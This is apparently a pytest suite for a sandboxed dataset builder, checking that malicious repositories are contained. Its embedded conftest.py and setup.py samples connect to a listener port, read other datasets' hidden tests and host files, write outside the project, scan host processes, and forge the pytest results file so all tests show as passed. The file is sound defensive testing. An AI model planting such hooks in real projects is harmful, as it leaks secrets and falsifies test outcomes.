"""A malicious repository: its conftest phones home to a loopback port, reads another dataset's hidden
tests and the host's processes, writes outside its directory and forges the results file. Building a
dataset from it runs its code only inside the sandbox: all of it is contained, and the forgery is
refused and reported."""

from __future__ import annotations

import json
import socket
import threading
import uuid
from pathlib import Path

import pytest
from r2e_projects import write

CONFTEST = """\
import atexit, json, os, socket
from pathlib import Path

ATTACK = json.loads((Path(__file__).parent / "attack.json").read_text())
seen = {}
try:
    socket.create_connection(("127.0.0.1", ATTACK["port"]), timeout=2).sendall(b"phoned home")
    seen["net"] = "connected"
except OSError as exc:
    seen["net"] = type(exc).__name__
try:
    seen["read"] = Path(ATTACK["other_hidden"]).read_text()
except OSError as exc:
    seen["read"] = type(exc).__name__
try:
    Path(ATTACK["outside"]).write_text("pwned")
    seen["write"] = "written"
except OSError as exc:
    seen["write"] = type(exc).__name__
cmdlines = []
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        cmdlines.append(open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace"))
    except OSError:
        pass
seen["host_marker_seen"] = any(ATTACK["marker"] in c for c in cmdlines)
os.environ["ATTACK_SEEN"] = json.dumps(seen)  # shown in test_always_fails's failure message


def _forge():  # after pytest wrote its results: claim every test passed, plus one that does not exist
    out = os.environ.get("VRIKSHA_R2E_OUT")
    if out and os.path.exists(out):
        data = json.load(open(out))
        for rec in data.get("tests", {}).values():
            rec["outcome"] = "passed"
        data.setdefault("tests", {})["tests/test_forged.py::test_forged"] = {"outcome": "passed"}
        json.dump(data, open(out, "w"))


if ATTACK.get("forge"):
    atexit.register(_forge)
"""

CALC = '''\
def add(a, b):
    """The sum of a and b."""
    total = a + b
    return total


def scale(x, k):
    """x times k."""
    out = x * k
    return out
'''

TESTS = """\
import os

from evil.calc import add, scale


def test_add():
    assert add(2, 3) == 5


def test_add_negative():
    assert add(-2, -3) == -5


def test_scale():
    assert scale(3, 4) == 12


def test_always_fails():
    assert scale(1, 1) == 2, "ATTACK " + os.environ.get("ATTACK_SEEN", "{}")
"""


@pytest.fixture
def attack(tmp_path):
    """A loopback listener, another dataset's hidden tests, a path outside, a host process marker."""
    tmp_path.chmod(0o755)
    other = tmp_path / "other-dataset" / "tasks" / "t1" / "hidden"
    other.mkdir(parents=True)
    (other / "tests.txt").write_text("def test_secret(): assert answer() == 42")
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    accepted: list = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                accepted.append(server.accept())
            except OSError:
                pass

    t = threading.Thread(target=accept, daemon=True)
    t.start()
    marker = f"host-secret-{uuid.uuid4().hex}"
    info = {
        "port": server.getsockname()[1],
        "other_hidden": str(other / "tests.txt"),
        "outside": str(tmp_path / "outside.txt"),
        "marker": marker,
    }
    try:
        yield info, accepted, tmp_path
    finally:
        stop.set()
        t.join(timeout=5)
        server.close()


def _attack_lines(output: str) -> list[dict]:
    return [json.loads(line.split("ATTACK ", 1)[1]) for line in output.splitlines() if "ATTACK {" in line]


def _evil_repo(root: Path, info: dict, forge: bool) -> Path:
    return write(
        root,
        {
            "pyproject.toml": '[project]\nname = "evil"\nversion = "0.1"\ndependencies = []\n',
            "evil/__init__.py": "",
            "evil/calc.py": CALC,
            "tests/test_calc.py": TESTS,
            "conftest.py": CONFTEST,
            "attack.json": json.dumps({**info, "forge": forge}),
        },
    )


@pytest.mark.slow
def test_malicious_repository_is_contained_and_reported(attack, tmp_path_factory):
    import subprocess
    import sys

    from vriksha.repo2env.bootstrap import bootstrap
    from vriksha.repo2env.builder import build_dataset
    from vriksha.repo2env.errors import BootstrapError
    from vriksha.repo2env.testrun import run_tests

    info, accepted, base = attack
    host = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", info["marker"]])
    try:
        src = _evil_repo(tmp_path_factory.mktemp("evil-src"), info, forge=True)
        venv = bootstrap(src, uuid.uuid4().hex, "evil")
        run = run_tests(venv.python, src, timeout_s=120)
        lines = _attack_lines(run.output)
        assert lines, run.output[-3000:]
        seen = lines[0]
        assert seen["net"] != "connected" and seen["read"] in ("FileNotFoundError", "PermissionError")
        assert seen["write"] != "written" and not seen["host_marker_seen"], seen
        # the forged results (every test passed, one invented) are refused and said so
        assert run.exit_code == 1 and run.warnings, run.warnings
        assert run.results == {}
        assert run.isolation["network"] and run.isolation["pid"] and run.isolation["filesystem"]
        # a build from it stops at the baseline, naming the refused results
        with pytest.raises(BootstrapError, match="results file claims none"):
            build_dataset(src, tmp_path_factory.mktemp("evil-forged"), _cfg())

        # without the forgery the build goes on: baseline, candidates, empty check and oracle all run
        # the conftest again, each time contained
        src = _evil_repo(tmp_path_factory.mktemp("evil-src2"), info, forge=False)
        report, manifest = build_dataset(src, tmp_path_factory.mktemp("evil-dataset"), _cfg())
        assert report.sandbox["missing"] == [] and report.sandbox["isolation"]["filesystem"]
        assert report.tests == 4 and report.stable_passing == 3, report.render()
        assert sum(report.candidates.values()) >= 1, report.render()
    finally:
        host.kill()
        host.wait()
    assert accepted == []  # nothing ever reached the listener
    assert not (base / "outside.txt").exists()
    assert (base / "other-dataset" / "tasks" / "t1" / "hidden" / "tests.txt").read_text().startswith("def")


def _cfg():
    from vriksha.repo2env.builder import BuildConfig

    return BuildConfig(pipelines=("implement_function",), max_tasks=1, workers=1, progress=False)


@pytest.mark.slow
def test_bootstrap_runs_no_repository_code_for_static_metadata(tmp_path, monkeypatch):
    """An in-tree build backend that would run at build time is never imported: the declared
    dependencies are installed and a metadata-only record stands in for the project."""
    import subprocess

    from vriksha.repo2env.bootstrap import bootstrap

    monkeypatch.setenv("PIP_NO_INDEX", "1")  # offline: pytest (the one dependency) is in the seed venv
    marker = tmp_path / "backend-ran"
    tmp_path.chmod(0o755)
    src = write(
        tmp_path / "statproj",
        {
            "pyproject.toml": (
                '[build-system]\nrequires = []\nbuild-backend = "evil_backend"\nbackend-path = ["."]\n\n'
                '[project]\nname = "statproj"\nversion = "1.2"\ndependencies = ["pytest"]\n\n'
                '[project.optional-dependencies]\ntest = ["statproj[extra]"]\nextra = []\n'
            ),
            "evil_backend.py": f"open({str(marker)!r}, 'w').write('ran')\n",
            "statproj.py": "X = 1\n",
        },
    )
    venv = bootstrap(src, uuid.uuid4().hex, "statproj")
    assert not marker.exists(), "the repository's build backend ran during the bootstrap"
    out = subprocess.run(
        [str(venv.python), "-c", "import importlib.metadata as m; print(m.version('statproj'))"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert out.stdout.strip() == "1.2", out.stderr
    assert not any(r.lower().startswith("statproj") for r in venv.freeze)


SETUP_PY = """\
import json, os, socket
from pathlib import Path
from setuptools import setup

ATTACK = json.loads(Path("attack.json").read_text())
digits = ""
try:
    socket.create_connection(("127.0.0.1", ATTACK["port"]), timeout=2).sendall(b"phoned home")
    digits += "0"
except OSError:
    digits += "1"
try:
    Path(ATTACK["outside"]).write_text("pwned")
    digits += "0"
except OSError:
    digits += "1"
try:
    Path(ATTACK["secret"]).read_text()
    digits += "0"
except OSError:
    digits += "1"
setup(name="setproj", version="1.0." + digits, py_modules=["setproj"], install_requires=ATTACK["requires"])
"""


@pytest.mark.slow
def test_setup_py_runs_only_in_the_sandbox(tmp_path):
    """A project with a setup.py (no static metadata) is built with its setup.py run in the sandbox: it
    cannot phone home, write outside its copy or read the host's files, and the wheel it builds
    (its version records what the probes saw) installs with its dynamically declared dependencies."""
    import subprocess

    from vriksha.repo2env.bootstrap import bootstrap

    tmp_path.chmod(0o755)
    host = socket.socket()
    host.bind(("127.0.0.1", 0))
    host.listen(4)
    host.settimeout(0.2)
    accepted: list[bytes] = []

    def accept() -> None:
        for _ in range(300):
            try:
                conn, _ = host.accept()
                accepted.append(conn.recv(64))
            except OSError:
                continue

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    secret = tmp_path / "host-secret.txt"
    secret.write_text("reference solution")
    outside = tmp_path / "outside.txt"
    attack = {
        "port": host.getsockname()[1],
        "outside": str(outside),
        "secret": str(secret),
        "requires": ["pytest"],
    }
    src = write(
        tmp_path / "setproj",
        {"setup.py": SETUP_PY, "attack.json": json.dumps(attack), "setproj.py": "X = 1\n"},
    )
    try:
        venv = bootstrap(src, uuid.uuid4().hex, "setproj")
    finally:
        host.close()
    thread.join(timeout=70)
    out = subprocess.run(
        [str(venv.python), "-c", "import importlib.metadata as m; print(m.version('setproj'))"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert out.stdout.strip() == "1.0.111", out.stderr  # each probe failed inside the sandbox
    assert accepted == []
    assert not outside.exists()
    assert not any("outside the sandbox" in w for w in venv.warnings)
    assert not any(r.lower().startswith("setproj") for r in venv.freeze)
